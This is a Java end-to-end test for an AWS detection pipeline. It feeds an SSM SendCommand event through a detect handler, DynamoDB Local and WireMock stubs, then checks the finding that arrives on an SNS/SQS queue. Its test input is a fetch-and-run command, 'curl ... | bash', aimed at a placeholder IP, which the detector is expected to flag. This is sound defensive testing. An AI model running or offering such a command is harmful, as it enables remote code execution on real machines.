package io.runwatch.aws;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.verification.LoggedRequest;
import io.runwatch.aws.dynamo.DynamoDbLocal;
import io.runwatch.aws.dynamo.DynamoTables;
import io.runwatch.aws.dynamo.TestTables;
import io.runwatch.aws.notify.SnsDelivered;
import io.runwatch.aws.testing.AwsWireMock;
import io.runwatch.aws.testing.Fauxqs;
import io.runwatch.core.service.MutableClock;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import software.amazon.awssdk.auth.credentials.AwsBasicCredentials;
import software.amazon.awssdk.auth.credentials.StaticCredentialsProvider;
import software.amazon.awssdk.awscore.client.builder.AwsClientBuilder;
import software.amazon.awssdk.regions.Region;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;
import software.amazon.awssdk.services.sns.SnsClient;
import software.amazon.awssdk.services.sqs.SqsClient;
import software.amazon.awssdk.services.sqs.model.Message;

/**
 * The production wiring, end to end: the real EventBridge SendCommand event into {@link
 * DetectHandler}, through DynamoDB Local (every table), SSM and CloudWatch Logs Insights on a
 * WireMock server answering with the documented shapes, to an SNS topic on fauxqs whose SQS
 * subscription receives the notification. Only the endpoints differ from Lambda.
 */
class DetectEndToEndTest {
  @RegisterExtension static final DynamoDbLocal DYNAMO = new DynamoDbLocal();

  static final String COMMAND_ID = "f49a1fe5-d12b-4ac0-98bc-0e4bd83d70c0";
  static final String SCRIPT = "curl -s http://203.0.113.7/x.sh | bash";
  static Fauxqs fauxqs;
  static SnsClient sns;
  static SqsClient sqs;

  WireMockServer aws;
  DynamoTables tables;
  String queueUrl;
  Map<String, String> env;
  MutableClock clock;
  Instant sent;

  @BeforeAll
  static void startFauxqs() {
    fauxqs = Fauxqs.start();
    sns = local(SnsClient.builder(), fauxqs.endpoint()).build();
    sqs = local(SqsClient.builder(), fauxqs.endpoint()).build();
  }

  @AfterAll
  static void stopFauxqs() {
    if (fauxqs != null) {
      sns.close();
      sqs.close();
      fauxqs.close();
    }
  }

  @BeforeEach
  void setUp() {
    aws = new WireMockServer(options().dynamicPort());
    aws.start();
    tables = TestTables.unique();
    TestTables.create(DYNAMO.client(), tables);
    String topic = sns.createTopic(r -> r.name("findings-" + tables.findings())).topicArn();
    queueUrl = sqs.createQueue(r -> r.queueName("soc-" + tables.findings())).queueUrl();
    String queueArn =
        sqs.getQueueAttributes(r -> r.queueUrl(queueUrl).attributeNamesWithStrings("QueueArn"))
            .attributesAsStrings()
            .get("QueueArn");
    sns.subscribe(r -> r.topicArn(topic).protocol("sqs").endpoint(queueArn));
    env = new HashMap<>();
    env.put(AwsConfig.BASELINES, tables.baselines());
    env.put(AwsConfig.FINDINGS, tables.findings());
    env.put(AwsConfig.PENDING, tables.pending());
    env.put(AwsConfig.JOURNAL, tables.journal());
    env.put(AwsConfig.TOPIC, topic);
    env.put(AwsConfig.LOG_GROUPS, "/runwatch/sysmon");
    env.put(AwsConfig.CONTAIN_FUNCTION, "runwatch-contain");
    env.put("AWS_REGION", "us-east-1");
    sent = Instant.now().truncatedTo(ChronoUnit.SECONDS).minusSeconds(30);
    clock = new MutableClock(sent.plusSeconds(20));
    stubSsmListCommands();
    stubInsightsWithNothingYet();
  }

  @AfterEach
  void stopAws() {
    aws.stop();
  }

  @Test
  void aSendCommandBecomesAStoredNotifiedFindingAndAPendingCorrelation() throws IOException {
    JsonNode response = invoke(sendCommand());

    assertThat(response.path("commands").asInt()).isEqualTo(1);
    assertThat(response.path("pendingAdded").asInt()).isEqualTo(1);
    int notified = response.path("notified").asInt();
    assertThat(notified).isPositive();

    // SSM was asked for the hidden parameters, signed, in the command's own region.
    List<LoggedRequest> listCommands = calls("AmazonSSM.ListCommands");
    assertThat(listCommands).hasSize(1);
    assertThat(listCommands.get(0).getBodyAsString()).contains(COMMAND_ID);
    AwsWireMock.assertSigned(listCommands.get(0), "ssm", "us-west-2");
    // The window is open: telemetry lags, so neither the agent nor Logs Insights is asked yet.
    assertThat(calls("AmazonSSM.ListCommandInvocations")).isEmpty();
    assertThat(calls("Logs_20140328.StartQuery")).isEmpty();

    // The SOC's queue got the finding, with the attributes its filter policies use.
    List<Message> delivered = receive(notified);
    assertThat(delivered).hasSize(notified);
    JsonNode envelope = SnsDelivered.tree(delivered.get(0).body());
    JsonNode finding = SnsDelivered.tree(SnsDelivered.sqsBody(envelope.path("Message").asText()));
    assertThat(finding.toString()).contains("RW-SUSPICIOUS-CONTENT");
    assertThat(envelope.path("MessageAttributes").path("severity").path("Value").asText())
        .isIn("LOW", "MEDIUM", "HIGH", "CRITICAL");

    // DynamoDB holds the finding (notified), the pending correlation, the journal and the baseline.
    String id = finding.path("id").asText();
    Map<String, AttributeValue> stored =
        DYNAMO
            .client()
            .getItem(
                r -> r.tableName(tables.findings()).key(Map.of("id", s(id))).consistentRead(true))
            .item();
    assertThat(stored).containsKeys("json", "notifiedAt", "expiresAt");
    assertThat(count(tables.pending())).isEqualTo(1);
    assertThat(count(tables.journal())).isEqualTo(1);
    assertThat(count(tables.baselines())).isEqualTo(1);
  }

  @Test
  void aRedeliveredEventChangesNothingAndSendsNothing() throws IOException {
    int notified = invoke(sendCommand()).path("notified").asInt();
    receive(notified);

    JsonNode again = invoke(sendCommand());

    assertThat(again.path("duplicate").asBoolean()).isTrue();
    assertThat(receive(0)).isEmpty();
    assertThat(calls("AmazonSSM.ListCommands")).hasSize(1);
  }

  @Test
  void theScheduledRecheckSettlesTheSilentTargetsAfterTheDeadline() throws IOException {
    int first = invoke(sendCommand()).path("notified").asInt();
    receive(first);
    clock.set(sent.plus(Duration.ofHours(4))); // past window (1 h) + skew + deadline (2 h)

    ByteArrayOutputStream out = new ByteArrayOutputStream();
    new RecheckHandler(() -> wiring().detection())
        .handleRequest(
            new ByteArrayInputStream("{}".getBytes(StandardCharsets.UTF_8)),
            out,
            new CapturingContext());

    JsonNode response = SnsDelivered.tree(out.toString(StandardCharsets.UTF_8));
    assertThat(response.path("settled").asInt()).isEqualTo(1);
    // The re-check asked the agent service and each target's telemetry, bounded by the window.
    assertThat(calls("AmazonSSM.ListCommandInvocations")).hasSize(1);
    List<LoggedRequest> queries = calls("Logs_20140328.StartQuery");
    assertThat(queries).hasSize(3);
    JsonNode query = SnsDelivered.tree(queries.get(0).getBodyAsString());
    assertThat(query.path("logGroupNames").get(0).asText()).isEqualTo("/runwatch/sysmon");
    assertThat(query.path("queryString").asText()).contains("006e4c07b5fba8ad2");
    assertThat(query.path("endTime").asLong() - query.path("startTime").asLong())
        .as("window (1 h) + skew on both sides + the 2 h deadline")
        .isBetween(3 * 3_600L, 3 * 3_600L + 15 * 60L);
    AwsWireMock.assertSigned(queries.get(0), "logs");

    assertThat(count(tables.pending())).isZero();
    List<Message> more = receive(response.path("notified").asInt());
    assertThat(more).isNotEmpty();
    assertThat(SnsDelivered.sqsBody(SnsDelivered.tree(more.get(0).body()).path("Message").asText()))
        .contains("RW-NOT-MATERIALIZED");
  }

  // ---- helpers

  private JsonNode invoke(byte[] event) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    new DetectHandler(() -> wiring().detection())
        .handleRequest(new ByteArrayInputStream(event), out, new CapturingContext());
    return SnsDelivered.tree(out.toString(StandardCharsets.UTF_8));
  }

  private AwsWiring wiring() {
    URI dynamo = DYNAMO.endpoint();
    URI queues = fauxqs.endpoint();
    URI apis = URI.create(aws.baseUrl());
    return new AwsWiring(
        env,
        new ClientSetup() {
          @Override
          public <B extends AwsClientBuilder<B, ?>> B apply(B builder, String service) {
            URI endpoint =
                switch (service) {
                  case "dynamodb" -> dynamo;
                  case "sns" -> queues;
                  default -> apis;
                };
            // DynamoDB Local keeps tables per access key: use the test harness's key for it.
            AwsBasicCredentials key =
                service.equals("dynamodb")
                    ? AwsBasicCredentials.create("local", "local")
                    : AwsBasicCredentials.create(AwsWireMock.ACCESS_KEY, AwsWireMock.SECRET_KEY);
            return builder
                .endpointOverride(endpoint)
                .credentialsProvider(StaticCredentialsProvider.create(key));
          }
        },
        clock);
  }

  /** The real EventBridge SendCommand event, moved to now so its window is still open. */
  private byte[] sendCommand() {
    return Events.text(Events.SEND_COMMAND)
        .replace("2025-02-19T16:32:39Z", sent.toString())
        .getBytes(StandardCharsets.UTF_8);
  }

  private void stubSsmListCommands() {
    String body =
        """
        {"Commands":[{"CommandId":"%s","DocumentName":"AWS-RunShellScript",
          "Parameters":{"commands":["#!/bin/bash","%s"]},
          "InstanceIds":["i-006e4c07b5fba8ad2","i-01bf673280e708b0d","i-020001cca1a2f2628"],
          "Status":"InProgress","TargetCount":3}]}
        """
            .formatted(COMMAND_ID, SCRIPT);
    aws.stubFor(json("AmazonSSM.ListCommands", body));
    // The agent has not picked the command up yet: no invocations listed.
    aws.stubFor(json("AmazonSSM.ListCommandInvocations", "{\"CommandInvocations\":[]}"));
  }

  /** Logs Insights: every query completes with no rows (the hosts have said nothing yet). */
  private void stubInsightsWithNothingYet() {
    aws.stubFor(json("Logs_20140328.StartQuery", "{\"queryId\":\"q-1\"}"));
    aws.stubFor(
        json(
            "Logs_20140328.GetQueryResults",
            "{\"results\":[],\"statistics\":{\"recordsMatched\":0.0,\"recordsScanned\":0.0,"
                + "\"bytesScanned\":0.0},\"status\":\"Complete\"}"));
  }

  private static com.github.tomakehurst.wiremock.client.MappingBuilder json(
      String target, String body) {
    return post(urlEqualTo("/"))
        .withHeader("X-Amz-Target", equalTo(target))
        .willReturn(
            aResponse()
                .withStatus(200)
                .withHeader("Content-Type", "application/x-amz-json-1.1")
                .withBody(body));
  }

  private List<LoggedRequest> calls(String target) {
    return aws.findAll(
        postRequestedFor(urlEqualTo("/")).withHeader("X-Amz-Target", equalTo(target)));
  }

  /** Receives until {@code expected} messages arrived, or a quiet second when 0 are expected. */
  private List<Message> receive(int expected) {
    List<Message> out = new ArrayList<>();
    long deadline = System.nanoTime() + Duration.ofSeconds(expected == 0 ? 1 : 10).toNanos();
    while (System.nanoTime() < deadline && (expected == 0 || out.size() < expected)) {
      for (Message m :
          sqs.receiveMessage(r -> r.queueUrl(queueUrl).maxNumberOfMessages(10).waitTimeSeconds(1))
              .messages()) {
        out.add(m);
        sqs.deleteMessage(r -> r.queueUrl(queueUrl).receiptHandle(m.receiptHandle()));
      }
    }
    return out;
  }

  private int count(String table) {
    return DYNAMO.client().scan(r -> r.tableName(table).consistentRead(true)).count();
  }

  private static AttributeValue s(String v) {
    return AttributeValue.builder().s(v).build();
  }

  private static <B extends AwsClientBuilder<B, ?>> B local(B builder, URI endpoint) {
    return builder
        .endpointOverride(endpoint)
        .region(Region.US_EAST_1)
        .credentialsProvider(
            StaticCredentialsProvider.create(AwsBasicCredentials.create("local", "local")));
  }
}
